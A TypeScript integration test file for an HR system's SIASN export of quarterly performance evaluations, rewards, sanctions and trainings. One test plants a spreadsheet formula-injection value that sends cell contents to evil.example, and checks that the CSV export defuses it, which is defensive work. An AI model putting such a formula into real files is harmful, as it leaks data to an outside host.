import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { errorCode, startTestApp, type TestApp } from '../helpers/app.js';
import { closePeriod, confirmAll, periodInEvaluation, rate } from '../helpers/evaluated-periods.js';
import { actor, createAgency, createUser, Role, tokenFor } from '../helpers/factories.js';
import { runner } from '../helpers/gql-run.js';

/**
 * Export of a small evaluated unit to SIASN: a camat (no appraiser in the
 * register), a functional and an implementing staff member appraised by the
 * camat, and a newcomer not yet in SIASN. The expected records are written by
 * hand from docs/domain.md#siasn.
 */

let app: TestApp;
let hr: string;
let run: ReturnType<typeof runner>['run'];
let attempt: ReturnType<typeof runner>['attempt'];
let agency: Awaited<ReturnType<typeof createAgency>>;
let quarter: string;
let open: string;
const evaluationOf: Record<string, string> = {};

const EXPORT = `query ($periodId: ID!, $kind: SiasnRecordKind!, $format: SiasnExportFormat) {
  siasnExport(periodId: $periodId, kind: $kind, format: $format) {
    kind endpoint fileName count content records { sourceId siasnId body } skipped { sourceId label reason } } }`;
interface Export {
  kind: string;
  endpoint: string;
  fileName: string;
  count: number;
  content: string;
  records: { sourceId: string; siasnId: string | null; body: Record<string, unknown> }[];
  skipped: { sourceId: string; label: string; reason: string }[];
}
const exportOf = async (kind: string, format = 'JSON_LINES', periodId = quarter) =>
  (await run<{ siasnExport: Export }>(EXPORT, { periodId, kind, format })).siasnExport;

const PREDICATES: Record<string, string> = {
  'Yohanes Dambung': 'SANGAT_BAIK',
  'Maria Ulfah': 'BAIK',
  'Budi Santoso': 'KURANG',
  'Citra Lestari': 'BAIK',
};

const employeesCsv = (camatGolongan: string, camatTmtGolongan: string) =>
  [
    'pns_id,nip_baru,nama,gelar_depan,gelar_belakang,jenis_kelamin,gol_akhir_id,tmt_gol_akhir,jenis_jabatan_id,eselon_id,jabatan_nama,kelas_jabatan,unor_id,tmt_jabatan',
    `PNS-CAMAT,'197506112000031002,Yohanes Dambung,Drs.,M.Si.,M,'${camatGolongan},${camatTmtGolongan},'1,'32,Camat Kertapati,'12,KEC-1,02-01-2020`,
    "PNS-A,'198804122010012005,Maria Ulfah,null,S.Kom.,F,'33,01-04-2022,'2,'99,Pranata Komputer Ahli Muda,'9,KEC-1,01-04-2022",
    "PNS-B,'199203152021031001,Budi Santoso,null,null,M,'22,01-03-2021,'4,null,Pengadministrasi Umum,'5,KEC-1,01-03-2021",
  ].join('\n');

beforeAll(async () => {
  app = await startTestApp();
  agency = await createAgency(app, { code: 'PEMKOT-PALEMBANG' });
  hr = (await actor(app, [Role.HR_OFFICER], agency.agency)).token;
  ({ run, attempt } = runner(app, () => hr));
  await run(`mutation ($input: ImportSiasnInput!) { importSiasnUnits(input: $input) { created } }`, {
    input: { content: JSON.stringify([{ Id: 'KEC-1', InstansiId: 'I', DiatasanId: 'I', NamaUnor: 'Kecamatan Kertapati', EselonId: 32 }]) },
  });
  await run(`mutation ($input: ImportSiasnInput!) { importSiasnEmployees(input: $input) { created } }`, {
    input: { content: employeesCsv('41', '01-04-2019') },
  });
  const unitId = (await run<{ orgUnits: { nodes: { id: string }[] } }>(`{ orgUnits(first: 5) { nodes { id } } }`)).orgUnits.nodes[0]!.id;
  await run(`mutation ($input: CreateEmployeeInput!) { createEmployee(input: $input) { employee { id } } }`, {
    input: { nip: '199405052019032004', name: 'Citra Lestari', employmentType: 'PNS', golongan: 'III_A', unitId },
  });
  const indicator = await run<{ createIndicator: { indicator: { id: string } } }>(
    `mutation ($input: CreateIndicatorInput!) { createIndicator(input: $input) { indicator { id } } }`,
    {
      input: {
        code: 'LAYANAN',
        name: 'Layanan selesai',
        direction: 'HIGHER_IS_BETTER',
        perspective: 'HASIL_KERJA',
        unit: 'COUNT',
        aggregation: 'SUM',
      },
    },
  );
  await run(`mutation ($input: CreateCriteriaTemplateInput!) { createCriteriaTemplate(input: $input) { criteriaTemplate { id } } }`, {
    input: { name: 'Umum', items: [{ indicatorId: indicator.createIndicator.indicator.id, weight: 100, target: 40 }] },
  });
  // The camat appraises the staff: what HR may not do, the camat's own account does.
  const camatUser = await createUser(app, { roles: [Role.SUPERVISOR], agency: agency.agency });
  await app.sql(`update users set employee_id = (select id from employees where nip = '197506112000031002') where id = ?`, [camatUser.id]);
  const camat = await tokenFor(app, camatUser);
  const either = (async (query: string, variables: Record<string, unknown> = {}) => {
    const response = await attempt(query, variables, hr);
    if (errorCode(response) === 'FORBIDDEN') return run(query, variables, camat);
    expect(response.errors, JSON.stringify(response.errors)).toBeUndefined();
    return response.data;
  }) as typeof run;
  const { periodId, plans } = await periodInEvaluation(either, { name: 'Triwulan I 2026', startDate: '2026-01-01', endDate: '2026-03-31' });
  quarter = periodId;
  for (const plan of plans) await rate(either, periodId, plan, { predicate: PREDICATES[plan.employee.name]! });
  // HR confirms the evaluations it made, the camat those of their staff.
  const confirmed = (await confirmAll(run, periodId)) + (await confirmAll((query, variables) => run(query, variables, camat), periodId));
  expect(confirmed).toBe(4);
  await closePeriod(either, periodId);
  const { performancePlans } = await run<{ performancePlans: { nodes: { employee: { name: string }; evaluation: { id: string } }[] } }>(
    `query ($id: ID!) { performancePlans(filter: { periodId: { eq: $id } }) { nodes { employee { name } evaluation { id } } } }`,
    { id: periodId },
  );
  for (const plan of performancePlans.nodes) evaluationOf[plan.employee.name] = plan.evaluation.id;
  open = (await periodInEvaluation(either, { name: 'Triwulan II 2026', startDate: '2026-04-01', endDate: '2026-06-30' })).periodId;
  // The camat is promoted after the quarter: the export keeps the rank they had then.
  await run(`mutation ($input: ImportSiasnInput!) { importSiasnEmployees(input: $input) { changed } }`, {
    input: { content: employeesCsv('42', '01-10-2026') },
  });
});
afterAll(() => app?.close());

const APPRAISER = {
  penilaiNipNrp: '197506112000031002',
  penilaiNama: 'Drs. Yohanes Dambung, M.Si.',
  penilaiJabatan: 'Camat Kertapati',
  penilaiGolongan: 41,
  penilaiUnorNama: 'Kecamatan Kertapati',
  statusPenilai: 'ASN',
};
const QUARTER_I = {
  periodikId: 2,
  bulanMulaiPenilaian: 1,
  bulanSelesaiPenilaian: 3,
  tahunMulaiPenilaian: 2026,
  tahunSelesaiPenilaian: 2026,
};

describe('SIASN export of a closed quarter (kinerjaperiodik/save)', () => {
  it('writes one record per evaluated employee with the SIASN codes, field by field', async () => {
    const result = await exportOf('KINERJA_PERIODIK');
    expect(result).toMatchObject({
      kind: 'KINERJA_PERIODIK',
      endpoint: '/kinerjaperiodik/save',
      fileName: 'kinerjaperiodik-triwulan-i-2026.jsonl',
      count: 3,
    });
    const camat = {
      id: null,
      ...QUARTER_I,
      pnsDinilaiOrang: 'PNS-CAMAT',
      hasilKinerjaNilai: 1,
      perilakuKerjaNilai: 1,
      kuadranKinerjaNilai: 1,
      koefisienId: null,
      penilaiNipNrp: null,
      penilaiNama: null,
      penilaiJabatan: null,
      penilaiGolongan: null,
      penilaiUnorNama: null,
      statusPenilai: 'NON ASN',
    };
    const maria = {
      id: null,
      ...QUARTER_I,
      pnsDinilaiOrang: 'PNS-A',
      hasilKinerjaNilai: 2,
      perilakuKerjaNilai: 2,
      kuadranKinerjaNilai: 2,
      koefisienId: 22,
      ...APPRAISER,
    };
    const budi = {
      id: null,
      ...QUARTER_I,
      pnsDinilaiOrang: 'PNS-B',
      hasilKinerjaNilai: 2,
      perilakuKerjaNilai: 3,
      kuadranKinerjaNilai: 4,
      koefisienId: null,
      ...APPRAISER,
    };
    expect(result.records).toEqual([
      { sourceId: evaluationOf['Yohanes Dambung'], siasnId: null, body: camat },
      { sourceId: evaluationOf['Maria Ulfah'], siasnId: null, body: maria },
      { sourceId: evaluationOf['Budi Santoso'], siasnId: null, body: budi },
    ]);
    expect(result.content.split('\n')).toEqual([JSON.stringify(camat), JSON.stringify(maria), JSON.stringify(budi), '']);
    expect(result.skipped).toEqual([
      {
        sourceId: evaluationOf['Citra Lestari'],
        label: '199405052019032004 Citra Lestari',
        reason: 'The employee has no pnsId: import them from SIASN first',
      },
    ]);
  });

  it('writes the same records as CSV with the SIASN field names as header', async () => {
    const result = await exportOf('KINERJA_PERIODIK', 'CSV');
    expect(result.fileName).toBe('kinerjaperiodik-triwulan-i-2026.csv');
    expect(result.content.split('\r\n')).toEqual([
      'id,periodikId,bulanMulaiPenilaian,bulanSelesaiPenilaian,tahunMulaiPenilaian,tahunSelesaiPenilaian,pnsDinilaiOrang,hasilKinerjaNilai,perilakuKerjaNilai,kuadranKinerjaNilai,koefisienId,penilaiNipNrp,penilaiNama,penilaiJabatan,penilaiGolongan,penilaiUnorNama,statusPenilai',
      ',2,1,3,2026,2026,PNS-CAMAT,1,1,1,,,,,,,NON ASN',
      ',2,1,3,2026,2026,PNS-A,2,2,2,22,197506112000031002,"Drs. Yohanes Dambung, M.Si.",Camat Kertapati,41,Kecamatan Kertapati,ASN',
      ',2,1,3,2026,2026,PNS-B,2,3,4,,197506112000031002,"Drs. Yohanes Dambung, M.Si.",Camat Kertapati,41,Kecamatan Kertapati,ASN\n',
    ]);
  });

  it('remembers the id SIASN gave a record, so the next export updates it', async () => {
    const recorded = await run<{ recordSiasnIds: { recorded: number } }>(
      `mutation ($input: RecordSiasnIdsInput!) { recordSiasnIds(input: $input) { recorded } }`,
      { input: { kind: 'KINERJA_PERIODIK', entries: [{ sourceId: evaluationOf['Maria Ulfah'], siasnId: 'rw-kinerja-777' }] } },
    );
    expect(recorded.recordSiasnIds.recorded).toBe(1);
    const result = await exportOf('KINERJA_PERIODIK');
    expect(result.records.map((r) => [r.body.pnsDinilaiOrang, r.siasnId, r.body.id])).toEqual([
      ['PNS-CAMAT', null, null],
      ['PNS-A', 'rw-kinerja-777', 'rw-kinerja-777'],
      ['PNS-B', null, null],
    ]);
    const [audit] = await app.sql<{ n: string }>(`select count(*) as n from audit_entries where entity_type = 'SiasnRecord'`);
    expect(Number(audit!.n)).toBe(1);
  });

  it('exports the rewards of the period with their hargaId', async () => {
    const grant = (employeeName: string, rewardTypeCode: string, grantedOn: string, decreeNumber: string) =>
      run(`mutation ($input: GrantRewardInput!) { grantReward(input: $input) { reward { id } } }`, {
        input: { employeeId: employeeIdOf[employeeName], rewardTypeCode, grantedOn, decreeNumber, reason: 'Pengabdian dan kinerja' },
      });
    const { employees } = await run<{ employees: { nodes: { id: string; name: string }[] } }>(
      `{ employees(first: 10) { nodes { id name } } }`,
    );
    const employeeIdOf = Object.fromEntries(employees.nodes.map((e) => [e.name, e.id]));
    await grant('Yohanes Dambung', 'SATYALANCANA_KARYA_SATYA_20', '2026-02-17', '800/12/BKPSDM/2026');
    await grant('Maria Ulfah', 'PIAGAM_PENGHARGAAN', '2026-03-20', '800/31/KEC/2026');
    await grant('Budi Santoso', 'PIAGAM_PENGHARGAAN', '2026-04-02', '800/40/KEC/2026');
    const result = await exportOf('PENGHARGAAN');
    expect(result.endpoint).toBe('/penghargaan/save');
    expect(result.records.map((r) => r.body)).toEqual([
      { id: null, pnsOrangId: 'PNS-CAMAT', hargaId: 202, skNomor: '800/12/BKPSDM/2026', skDate: '17-02-2026', tahun: 2026 },
      { id: null, pnsOrangId: 'PNS-A', hargaId: 400, skNomor: '800/31/KEC/2026', skDate: '20-03-2026', tahun: 2026 },
    ]);
  });

  it('exports the sanctions decreed and the trainings completed in the period in their shapes', async () => {
    const { employees } = await run<{ employees: { nodes: { id: string; name: string }[] } }>(
      `{ employees(first: 10) { nodes { id name } } }`,
    );
    const idOf = Object.fromEntries(employees.nodes.map((e) => [e.name, e.id]));
    const step = async (name: string, type: string, input: Record<string, unknown>) =>
      (
        await run<Record<string, { case: { id: string; version: number } }>>(
          `mutation ($input: ${type}!) { ${name}(input: $input) { case { id version } } }`,
          { input },
        )
      )[name]!.case;
    const proposed = await step('proposeDisciplinaryCase', 'ProposeDisciplinaryCaseInput', {
      employeeId: idOf['Budi Santoso'],
      violation: 'Tidak masuk kerja tanpa alasan yang sah selama 12 hari kerja',
      violationDate: '2026-01-20',
      article: 'PP 94/2021 Pasal 4 huruf f',
    });
    const examined = await step('examineDisciplinaryCase', 'ExamineDisciplinaryCaseInput', {
      id: proposed.id,
      version: proposed.version,
      examinedOn: '2026-02-02',
      examiners: ['Yohanes Dambung', 'Kepala BKPSDM'],
      record: 'Berita acara pemeriksaan: pegawai mengakui.',
    });
    await step('decideDisciplinaryCase', 'DecideDisciplinaryCaseInput', {
      id: examined.id,
      version: examined.version,
      sanctionTypeCode: 'POTONGAN_TUKIN_25_6',
      decreeNumber: '800/77/BKPSDM/2026',
      decreeDate: '2026-02-10',
      effectiveFrom: '2026-03-03',
    });
    const hukdis = await exportOf('HUKDIS');
    expect(hukdis.endpoint).toBe('/hukdis/save');
    expect(hukdis.records.map((r) => r.body)).toEqual([
      {
        id: null,
        pnsOrangId: 'PNS-B',
        jenisHukumanId: 23,
        jenisTingkatHukumanId: 'S',
        hukumanTanggal: '03-03-2026',
        akhirHukumanTanggal: '02-09-2026',
        masaTahun: 0,
        masaBulan: 6,
        skNomor: '800/77/BKPSDM/2026',
        skTanggal: '10-02-2026',
      },
    ]);

    const program = await run<{ createTrainingProgram: { program: { id: string } } }>(
      `mutation ($input: CreateTrainingProgramInput!) { createTrainingProgram(input: $input) { program { id } } }`,
      {
        input: {
          code: 'ARSIP-DIGITAL',
          title: 'Pengelolaan Arsip Digital',
          competencyArea: 'TEKNIS',
          mode: 'KLASIKAL',
          kind: 'PELATIHAN',
          jpHours: 24,
          provider: 'BPSDM Provinsi Sumatera Selatan',
        },
      },
    );
    const session = await run<{ createTrainingSession: { session: { id: string } } }>(
      `mutation ($input: CreateTrainingSessionInput!) { createTrainingSession(input: $input) { session { id } } }`,
      {
        input: {
          programId: program.createTrainingProgram.program.id,
          name: 'Angkatan I',
          startDate: '2026-02-16',
          endDate: '2026-02-18',
          capacity: 10,
          location: 'Aula BKPSDM',
        },
      },
    );
    const enrolled = await run<{ enrollInTraining: { enrollment: { id: string; version: number } } }>(
      `mutation ($input: EnrollInTrainingInput!) { enrollInTraining(input: $input) { enrollment { id version } } }`,
      { input: { sessionId: session.createTrainingSession.session.id, employeeId: idOf['Maria Ulfah'] } },
    );
    await run(`mutation ($input: RecordTrainingResultInput!) { recordTrainingResult(input: $input) { enrollment { id } } }`, {
      input: { ...enrolled.enrollInTraining.enrollment, status: 'COMPLETED', certificateNumber: 'SERT/2026/015' },
    });
    const kursus = await exportOf('KURSUS');
    expect(kursus.endpoint).toBe('/kursus/save');
    expect(kursus.records.map((r) => r.body)).toEqual([
      {
        id: null,
        pnsOrangId: 'PNS-A',
        jenisDiklatId: 3,
        namaKursus: 'Pengelolaan Arsip Digital',
        institusiPenyelenggara: 'BPSDM Provinsi Sumatera Selatan',
        jumlahJam: 24,
        tanggalKursus: '16-02-2026',
        tanggalSelesaiKursus: '18-02-2026',
        nomorSertipikat: 'SERT/2026/015',
      },
    ]);
  });

  it('reads a period in the same few statements whatever its size', async () => {
    const response = await attempt(EXPORT, { periodId: quarter, kind: 'KINERJA_PERIODIK' });
    expect(response.errors).toBeUndefined();
    // Actor, period, and one query for every record of the export.
    expect(response.sqlStatements).toBeLessThanOrEqual(4);
  });

  it('refuses a period that is not closed, and a kind that does not fit the period', async () => {
    expect(errorCode(await attempt(EXPORT, { periodId: open, kind: 'KINERJA_PERIODIK' }))).toBe('BAD_USER_INPUT');
    const annual = await attempt(EXPORT, { periodId: quarter, kind: 'SKP_TAHUNAN' });
    expect(errorCode(annual)).toBe('BAD_USER_INPUT');
    expect(annual.errors![0]!.extensions.field).toBe('kind');
  });

  it('writes formula-like text as text in CSV (a leading quote, as SIASN files do) and exactly in JSON lines', async () => {
    const { employees } = await run<{ employees: { nodes: { id: string; name: string }[] } }>(
      `{ employees(first: 10) { nodes { id name } } }`,
    );
    const maria = employees.nodes.find((e) => e.name === 'Maria Ulfah')!.id;
    const decree = '=HYPERLINK("http://evil.example/?d="&A1,"800/1")';
    await run(`mutation ($input: GrantRewardInput!) { grantReward(input: $input) { reward { id } } }`, {
      input: {
        employeeId: maria,
        rewardTypeCode: 'PIAGAM_PENGHARGAAN',
        grantedOn: '2026-03-27',
        decreeNumber: decree,
        reason: 'Inovasi layanan',
      },
    });
    const csv = await exportOf('PENGHARGAAN', 'CSV');
    expect(csv.content).toContain(`,"'=HYPERLINK(""http://evil.example/?d=""&A1,""800/1"")",27-03-2026,2026`);
    for (const line of csv.content.trim().split('\r\n')) expect(line.split(',').every((cell) => !/^[=+\-@\t\r]/.test(cell))).toBe(true);
    const lines = await exportOf('PENGHARGAAN');
    expect(lines.records.map((r) => r.body.skNomor)).toContain(decree);
  });

  it('is for HR and administrators of the agency', async () => {
    const employee = (await actor(app, [Role.EMPLOYEE], agency.agency)).token;
    expect(errorCode(await attempt(EXPORT, { periodId: quarter, kind: 'KINERJA_PERIODIK' }, employee))).toBe('FORBIDDEN');
    const other = await createAgency(app, { code: 'PEMKOT-LAIN' });
    const stranger = (await actor(app, [Role.HR_OFFICER], other.agency)).token;
    expect(errorCode(await attempt(EXPORT, { periodId: quarter, kind: 'KINERJA_PERIODIK' }, stranger))).toBe('NOT_FOUND');
  });
});
